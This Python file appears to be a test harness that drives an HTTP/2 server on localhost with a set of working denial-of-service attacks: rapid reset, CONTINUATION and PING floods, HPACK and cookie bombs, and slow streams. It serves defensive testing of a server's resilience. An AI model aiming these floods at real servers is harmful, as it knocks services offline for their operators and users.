# SPDX-License-Identifier: Apache-2.0
"""An HTTP/2 client that means harm, and comes back as often as it is sent away. For h2_attacks.py:

    h2_attacker.py ATTACK PORT SECONDS CONNECTIONS"""
import pathlib
import socket
import struct
import sys
import time

sys.dont_write_bytecode = True
sys.path.insert(0, str(pathlib.Path(__file__).resolve().parent.parent / "tests/proxy"))
import hpack  # noqa: E402
from h2 import (CONTINUATION, HEADERS, PING, PREFACE, data, frame, headers, request_fields,  # noqa: E402
                rst, settings, window)

COUNT = 3000                # of what a flood repeats, on one connection
PAUSE = 0.05                # before it comes again: others live on its core
PATH = "/b/101"             # the others ask for another
LARGE = "/b/300000"


def number(i):
    return 2 * i + 1


def flood(make):
    return lambda: b"".join(make(i) for i in range(COUNT))


def ask(i, **rest):
    return headers(number(i), **{"path": PATH, **rest})


def bomb(name, value, references):
    """A field that is told once, and then referred to on as many streams as may be."""
    block = hpack.encode(request_fields(path=LARGE))
    first = headers(1, block + hpack.literal(name, value, first=0x40))
    return first + b"".join(headers(number(i), block + b"\xbe" * references) for i in range(1, 100))


# name: what a connection says after its settings, whether its windows are of nothing, whether it is
# held until it is sent away
ATTACKS = {
    "rapid reset": (flood(lambda i: ask(i) + rst(number(i))), False, False),
    "made you reset": (flood(lambda i: ask(i) + window(number(i), 0)), False, False),
    "CONTINUATION": (lambda: frame(HEADERS, 1, 1, b"\x82") + b"".join(
        frame(CONTINUATION, 0, 1, b"\x00\x01a\x01b" * 20) for _ in range(COUNT)), False, False),
    "empty DATA": (lambda: ask(0, method="POST", end=False) + data(1) * COUNT, False, False),
    "SETTINGS": (flood(lambda i: settings((3, 100))), False, False),
    "PING": (flood(lambda i: frame(PING, 0, 0, struct.pack(">Q", i))), False, False),
    "HPACK bomb": (lambda: bomb("x-a", "v" * 3900, 15000), True, True),
    "cookie bomb": (lambda: bomb("cookie", "", 250), True, True),
    "slow streams": (lambda: b"".join(ask(i, path=LARGE) for i in range(50)) + b"".join(
        ask(i, method="POST", end=False) for i in range(50, 100)), True, True),
}


def speak(attack, text, port, until):
    """One connection, until it is sent away or the time is over; slow streams get a byte a second."""
    _, is_starved, is_held = ATTACKS[attack]
    with socket.create_connection(("127.0.0.1", port), timeout=0.1) as sock:
        out = memoryview(PREFACE + settings(*[(4, 0)] if is_starved else []) + text)
        said = time.monotonic()
        while time.monotonic() < until:
            try:
                if out:
                    out = out[sock.send(out[:65536]):]
                elif not is_held:
                    sock.shutdown(socket.SHUT_WR)
                    is_held = True
                elif attack == "slow streams" and time.monotonic() > said + 1:
                    said = time.monotonic()
                    out = memoryview(b"".join([window(number(i), 1) for i in range(50)] +
                                              [data(number(i), b"x") for i in range(50, 100)]))
                if not out and not sock.recv(65536):
                    return
            except TimeoutError:
                pass
            except OSError:
                return


def main(name, port, seconds, most):
    text = ATTACKS[name][0]()       # once: its work is not to be felt by those who share its core
    until, connections = time.monotonic() + seconds, 0
    while time.monotonic() < until and connections < most:
        speak(name, text, port, until)
        connections += 1
        time.sleep(PAUSE)
    print(connections)


if __name__ == "__main__":
    main(sys.argv[1], int(sys.argv[2]), float(sys.argv[3]), int(sys.argv[4]))
